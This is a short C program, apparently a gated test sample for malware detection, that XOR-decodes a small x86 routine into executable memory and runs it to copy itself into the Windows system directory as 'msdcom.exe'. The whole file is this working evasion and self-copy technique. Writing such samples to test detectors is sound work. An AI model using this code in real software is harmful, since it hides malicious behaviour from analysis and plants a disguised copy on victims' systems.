/* Decodes a function in memory and runs it: self-copy by code that no disassembler of the file
 * sees.
 *
 * The function is `int copy(CopyFileA *, source, target)`, written in hexadecimal and xored with
 * 5Ah. */
#include "simulated.h"

#include <string.h>

typedef BOOL(WINAPI *copy_file_function)(const char *, const char *, BOOL);
typedef int (*copy_function)(copy_file_function, const char *, const char *);

static const unsigned char encoded[] = {
	0x0f,		  /* push ebp */
	0xd3, 0xbf,	  /* mov ebp, esp */
	0x30, 0x5a,	  /* push 0 */
	0xa5, 0x2f, 0x4a, /* push dword [ebp + 16] */
	0xa5, 0x2f, 0x56, /* push dword [ebp + 12] */
	0xa5, 0x0f, 0x52, /* call [ebp + 8] */
	0x93,		  /* leave */
	0x99		  /* ret */
};

int main(void)
{
	char self[MAX_PATH], path[MAX_PATH];
	leave_unless_simulated();
	unsigned char *code =
		VirtualAlloc(NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
	if (code == NULL)
		return 1;
	for (size_t i = 0; i < sizeof encoded; i++)
		code[i] = encoded[i] ^ 0x5a;
	GetModuleFileNameA(NULL, self, sizeof self);
	GetSystemDirectoryA(path, sizeof path - 16);
	strcat(path, "\\msdcom.exe");
	return ((copy_function)(void *)code)(CopyFileA, self, path) ? 0 : 1;
}
